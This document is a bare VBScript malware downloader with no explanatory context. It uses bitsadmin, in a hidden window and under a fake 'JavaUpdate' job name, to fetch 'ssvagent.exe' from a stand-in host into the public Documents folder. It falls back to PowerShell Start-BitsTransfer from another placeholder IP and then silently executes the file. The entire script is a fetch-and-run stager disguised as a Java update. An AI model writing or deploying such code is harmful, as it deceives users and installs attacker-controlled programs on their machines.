Set sh = CreateObject("WScript.Shell")
dst = sh.ExpandEnvironmentStrings("%PUBLIC%") & "\Documents\ssvagent.exe"
rc = sh.Run("bitsadmin /transfer ""JavaUpdate"" /download /priority foreground http://java-update.invalid/jre/ssvagent.exe """ & dst & """", 0, True)
If rc <> 0 Then
    sh.Run "powershell -c ""Start-BitsTransfer -Source http://203.0.113.8/ssvagent.exe -Destination '" & dst & "'""", 0, True
End If
sh.Run """" & dst & """ -new", 0, False
